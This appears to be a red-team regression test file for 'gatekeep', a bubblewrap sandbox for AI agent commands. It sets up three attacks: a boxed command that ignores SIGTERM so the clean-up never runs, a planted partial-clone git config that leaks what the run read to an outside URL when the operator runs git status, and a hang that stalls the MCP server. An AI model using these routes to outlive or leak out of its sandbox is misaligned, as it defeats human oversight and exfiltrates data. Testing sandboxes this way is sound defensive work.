"""Red team 20: what a boxed run leaves when gatekeep's clean-up after it does not happen,
and settings a repository the run made may keep (each test failed while its attack
worked)."""

from __future__ import annotations

import os
import signal
import subprocess

import pytest
from gitbox import EVIL, NEW_REPO, Sandbox
from gitbox import plant as _plant
from gitbox import repo as _repo
from gitbox import status as _status

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")


def test_a_boxed_command_that_ignores_the_end_of_its_run_still_gets_the_clean_up(
        sandbox: Sandbox) -> None:
    """The clean-up (allowed._after_box) runs in gatekeep's process, after the box. An
    agent's tool call that timed out sends SIGTERM; gatekeep passed it on and waited, for
    ever, on a command that ignored it, until its caller killed it with SIGKILL: then
    nothing was held, and no later run looks again. The box is now killed GRACE seconds
    after gatekeep is asked to end, and the clean-up runs."""
    _repo(sandbox.work)
    _plant(sandbox, NEW_REPO.format("foo"), EVIL.format("foo"), "touch ready",
           "trap '' TERM; sleep 60")
    process = sandbox.spawn("run", "-c", "make")
    try:
        sandbox.wait_for(lambda: (sandbox.work / "ready").exists(), timeout=30)
        process.send_signal(signal.SIGTERM)  # passed on to the command, which ignores it
        process.wait(timeout=30)  # gatekeep kills the box after its grace, and cleans up
    finally:
        if process.poll() is None:
            process.kill()
        process.communicate()
    assert process.returncode != 0
    later = sandbox.gatekeep("run", "-c", "true")
    assert later.returncode == 0, later.stderr
    assert not _status(sandbox, ["add", "-A"]), later.stderr


def test_a_partial_clone_the_run_makes_fetches_from_its_url_at_git_status(sandbox: Sandbox
                                                                           ) -> None:
    """plainrepo.PLAIN lets ``extensions.partialclone`` and ``remote.*.promisor`` through
    with any ``remote.*.url``. git fetches an object such a repository lacks from that URL
    whenever a command needs it (lazy fetch), read-only ones included: the operator's
    ``git status`` in the tree runs ``git status`` in the staged repository, which fetches
    its missing HEAD tree from the URL the run chose. The box has no network; the
    operator's git has, so the run sends what it read (here in the URL) out of the box."""
    _repo(sandbox.work)
    _plant(sandbox, "git init -q foo", "echo b > foo/b.txt", "git -C foo add b.txt",
           "git -C foo -c user.name=t -c user.email=t@e commit -qm b",
           "git -C foo config core.repositoryformatversion 1",
           "git -C foo config extensions.partialclone origin",
           "git -C foo config remote.origin.url https://example.invalid/what-the-run-read",
           "git -C foo config remote.origin.promisor true",
           "t=$$(git -C foo rev-parse 'HEAD^{tree}'); "
           "rm -f foo/.git/objects/$${t:0:2}/$${t:2}")
    boxed = sandbox.gatekeep("run", "-c", "make")
    assert boxed.returncode == 0, boxed.stderr
    trace = sandbox.work.parent / "trace"
    env = {**os.environ, "GIT_TRACE": str(trace)}
    for args in (["add", "-A"], ["status"]):
        subprocess.run(["git", *args], cwd=sandbox.work, env=env, capture_output=True,
                       check=False, timeout=60)
    assert "what-the-run-read" not in trace.read_text(), boxed.stderr


def test_an_mcp_call_past_its_timeout_returns(sandbox: Sandbox,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """mcp._child sends SIGTERM to ``gatekeep run`` when a call passes its timeout, then
    waits with no limit; gatekeep passes the signal on, and a command that ignores it keeps
    the call (and the stdio server, which serves one call at a time) waiting for as long
    as it likes: the default policy sets no time limit."""
    import sys
    import threading
    from pathlib import Path

    from gatekeep.commands import mcp

    gatekeep = Path(sys.executable).parent / "gatekeep"

    _plant(sandbox, "trap '' TERM; sleep 25")
    for key, value in sandbox.env.items():
        monkeypatch.setenv(key, value)
    result: list[object] = []
    thread = threading.Thread(target=lambda: result.append(mcp.run(
        str(gatekeep), "make", str(sandbox.work), "", 1)), daemon=True)
    thread.start()
    thread.join(15)
    assert result, "the call did not return 14 seconds after its timeout"
